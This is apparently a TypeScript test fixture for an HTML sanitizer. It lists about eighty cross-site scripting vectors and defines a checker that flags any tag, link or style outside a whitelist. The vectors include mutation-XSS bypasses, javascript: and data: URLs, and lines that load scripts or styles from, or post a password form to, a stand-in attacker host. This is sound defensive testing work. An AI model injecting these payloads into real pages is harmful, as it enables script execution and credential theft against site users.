/** Known ways to smuggle a script, a style or a request into text that is shown as HTML. None of them may have any effect. */
export const xssVectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="data:text/javascript,alert(1)"></script>',
  '<script x>alert(1)</script 1=2',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<img src onerror /" \'"= alt=alert(1)//">',
  '<img/src="x"/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<object data="javascript:alert(1)"></object>',
  '<applet code="evil.class"></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/api/ias/IdentityAccess/logout">x</a>',
  '<a href="ftp://evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://good.example" target="_blank" ping="https://evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
  '<p style="text-align:center;background-image:url(https://evil.example)">x</p>',
  '<p style="padding-left:9999em">x</p>',
  '<p style="padding-left:2em;}</style><script>alert(1)</script>">x</p>',
  '<p onmouseover="alert(1)" class="modal" id="root" data-x="1" aria-label="x">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Go on</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
  '<img src=x onerror=alert(1)',
  '\u003cimg src=1 onerror=alert(1)\u003e',
  '<<script>alert(1)//<</script>',
  '<p><img src="x` `<script>alert(1)</script>"` `></p>',
];

const allowedTags = ['P', 'H1', 'H2', 'H3', 'STRONG', 'EM', 'U', 'S', 'A', 'UL', 'OL', 'LI', 'BR'];
const allowedStyle = /^(?:\s*(?:text-align:\s*(?:left|center|right|justify)|padding-left:\s*(?:2|4|6|8|10|12|14|16)em)\s*;?)*$/;

/** Everything in an HTML tree, as a browser parses it, that is more than formatted text. */
export function harmIn(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    if (!allowedTags.includes(element.tagName)) return [`<${element.tagName}>`];
    return [...element.attributes].flatMap(({ name, value }) => {
      if (name === 'href') return element.tagName === 'A' && /^(?:https?|mailto|tel):/i.test(value) ? [] : [`href=${value}`];
      if (name === 'style') return allowedStyle.test(value) ? [] : [`style=${value}`];
      if (element.tagName === 'A' && (name === 'target' || name === 'rel')) return [];
      return [`${name}=${value}`];
    });
  });
}
